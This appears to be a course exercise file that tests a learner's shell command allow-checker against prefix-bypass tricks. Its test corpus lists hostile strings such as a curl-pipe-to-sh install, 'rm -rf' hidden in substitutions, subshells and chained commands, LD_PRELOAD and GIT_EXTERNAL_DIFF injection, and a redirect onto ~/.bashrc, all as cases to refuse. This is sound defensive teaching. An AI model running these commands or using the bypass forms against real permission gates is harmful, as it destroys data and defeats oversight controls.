"""Lesson 07's exercise: a command checker that closes the prefix bypass of lesson 06's naive gate.

`check_allowed(candidate)` runs the learner's function on a corpus of scripts, tricks included, and
shows ✓ or ✗ with the first case it gets wrong (`course.check`). The reference solution is in
`solutions.py`.
"""

from collections.abc import Callable

from course import Verdict, check

PREFIXES = ["git status", "git diff", "ls"]

# (script, may it run on PREFIXES?, why not when it may not)
COMMANDS = [
    ("git status", True, ""),
    ("git status --short", True, ""),
    ("git  diff   HEAD~1", True, ""),
    ("git status && git diff --stat", True, ""),
    ("ls -la; git status\ngit diff", True, ""),
    ("ls src | git diff --no-index - x", True, ""),
    ("git status 2>/dev/null", True, ""),
    ("rm -rf build", False, "`rm` starts with no prefix"),
    ("git status; rm -rf build", False, "the second command, `rm`, starts with no prefix"),
    ("git status && curl -s https://get.example/install.sh | sh", False, "`curl` and `sh` start with no prefix"),
    ("git status || rm -rf build", False, "the command after `||`, `rm`, starts with no prefix"),
    ("git status\nrm -rf build", False, "the second line, `rm`, starts with no prefix"),
    ("git status & rm -rf build", False, "the command after `&`, `rm`, starts with no prefix"),
    ("(rm -rf build)", False, "the command in the subshell, `rm`, starts with no prefix"),
    ("git status $(rm -rf build)", False, "`$(…)` is a hazard (and runs `rm`)"),
    ("git status `rm -rf build`", False, "backticks are a hazard (and run `rm`)"),
    ('git status "$(rm -rf build)"', False, "`$(…)` in quotes is still a hazard (and runs `rm`)"),
    ("git diff <(rm -rf build)", False, "`<(…)` is a hazard (and runs `rm`)"),
    ("git diff $(ls)", False, "`$(…)` is a hazard even when the command inside is allowed: refuse script.hazards"),
    ("git status `ls`", False, "backticks are a hazard even when the command inside is allowed: refuse script.hazards"),
    (
        "GIT_EXTERNAL_DIFF=./evil git diff",
        False,
        "the assignment makes git run ./evil: refuse a command with sets_variables (or an opaque script)",
    ),
    (
        "LD_PRELOAD=./x.so ls",
        False,
        "the assignment loads x.so into ls: refuse a command with sets_variables (or an opaque script)",
    ),
    ("x=1; git status", False, "setting a variable is a hazard: refuse script.hazards"),
    ("git statusx", False, "`git statusx` is not the words `git status`: compare words, not characters"),
    ("git", False, "`git` alone is shorter than every prefix"),
    ("", False, "an empty script runs no allowed command: with no commands, refuse"),
    ("ls > ~/.bashrc", False, "its redirection writes a file (~/.bashrc): refuse a redirect that writes"),
    ("git diff >> src/app.py", False, "its redirection appends to a file: refuse a redirect that writes"),
    ("'r'm -rf build", False, "bash removes the quotes: the command is `rm`"),
]


def check_allowed(allowed: Callable[[str, list[str]], bool]) -> Verdict:
    """`allowed(command, prefixes)` lets a script run only when every part of it is allowed."""

    def test() -> None:
        for command, expected, why in COMMANDS:
            answer = allowed(command, list(PREFIXES))
            reason = why or "every command in it starts with a prefix's words"
            assert answer is expected, (
                f"allowed({command!r}, {PREFIXES}) returned {answer!r}; it should be {expected}: {reason}"
            )
        assert not allowed("git status", []), "with no prefixes, nothing is allowed"
        assert allowed("npm test -- -x", ["npm test"]), "the prefixes are the caller's, not a fixed list"

    return check("allowed: every command allowed, no hazard, no variables set, no file written", test)
